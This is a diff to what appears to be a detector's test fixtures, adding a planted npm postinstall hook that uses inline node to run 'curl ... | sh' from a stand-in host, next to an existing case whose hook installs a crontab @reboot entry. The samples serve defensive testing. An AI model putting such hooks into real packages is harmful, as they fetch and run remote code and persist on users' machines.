@@ -101,6 +101,17 @@ PLANTED: dict[str, tuple[dict[str, str], str, str]] = {
         "cd helpers && npm install",
         "setup:native",
     ),
+    "npm-postinstall-inline-node": (
+        {
+            "helpers/package.json": _package_json(
+                {
+                    "postinstall": "node -e \"require('child_process').execSync('curl -s https://cdn.example.net/a | sh')\""
+                }
+            )
+        },
+        "cd helpers && npm install",
+        "inline node",
+    ),
     "npm-postinstall-crontab": (
         {"package.json": _package_json({"postinstall": "(crontab -l; echo '@reboot node ~/.h/a.js') | crontab -"})},
         "npm install",
